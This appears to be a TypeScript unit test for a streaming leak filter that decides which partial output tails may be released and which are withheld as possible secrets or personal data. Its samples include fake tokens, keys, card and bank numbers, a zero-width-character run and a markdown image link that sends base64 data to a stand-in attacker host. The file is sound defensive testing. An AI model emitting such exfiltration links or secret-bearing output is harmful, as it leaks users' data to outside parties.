/** Which beginnings of matches may leave where a text pauses. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { endsInKeyRun, isTailHarmless } from '../../../server/stream/harmless-tail.ts'
import { OPENING } from './window-fixture.ts'

const HARMLESS = [
  '',
  'Let me look that up',
  'The weather in Paris is',
  'The password',
  'Your account number is',
  'The answer is 123456',
  'In 2024.',
  'see https://docs.example.org/guide',
  'call me',
  '{"city":"Paris"}',
  'Das ist die Geschwindigkeitsbegrenzung',
  'getUserName',
  'the token_ids',
  'write to jan.jansen',
  'Today is 2026-11-26',
  'Today is 2026-11-26.',
  'on 26.11.2026',
  'see http://localhost:8080',
  'The password is not known',
  'She was born in 1990',
  'ghp_',
  '-----BEGIN RSA PRIVATE KEY---',
]

const TELLING = [
  'ghp_a1B2c3D4',
  'AKIAIOSFODNN7EX',
  'ghp_a1B',
  'password = "Tr0',
  'https://bot:a1B',
  'Authorization: Bearer a1B',
  'card 4111 1111 1',
  'card 4111 2026-11-26 111',
  'NL91 ABNA 0417 16',
  'jan@mail.exam',
  'password = Hunter2axyz',
  '![x](https://attacker.test/p?d=cXVhcnRlcmx5IGZpZ3Vy',
  `-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq`,
  Buffer.from('the key is somewhere in here, and').toString('base64').replace(/=+$/, ''),
  'x\u200b\u200b\u200b\u200b\u200b',
]

for (const text of HARMLESS) {
  test(`may leave: ${text}`, () => assert.equal(isTailHarmless(text, OPENING, []), true))
}
for (const text of TELLING) {
  test(`stays: ${JSON.stringify(text)}`, () => assert.equal(isTailHarmless(text, OPENING, []), false))
}

test('what is a finding already does not count: it is judged', () => {
  const text = 'mail jan@mail.example.org'
  assert.equal(isTailHarmless(text, OPENING, []), false)
  assert.equal(isTailHarmless(text, OPENING, [{ kind: 'pii.email', span: [5, text.length] }]), true)
})

for (const [text, isKey] of [
  ['a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6', true],
  ['a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6-u', true],
  ['the commit 3f2a9c1d', false],
  [`the commit ${'a1b2c3d4e5'.repeat(4)}`, false],
  [`sha256 ${'a1b2c3d4'.repeat(8)}`, false],
  ['a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6 is it', false],
  ['Geschwindigkeitsbegrenzung', false],
  ['20261126094506', false],
] as const) {
  test(`${isKey ? 'may be' : 'is not'} a key whose sign follows: ${text}`, () => {
    assert.equal(endsInKeyRun(text, []), isKey)
    assert.equal(endsInKeyRun(text, [{ kind: 'secret.x', span: [0, text.length] }]), false)
  })
}
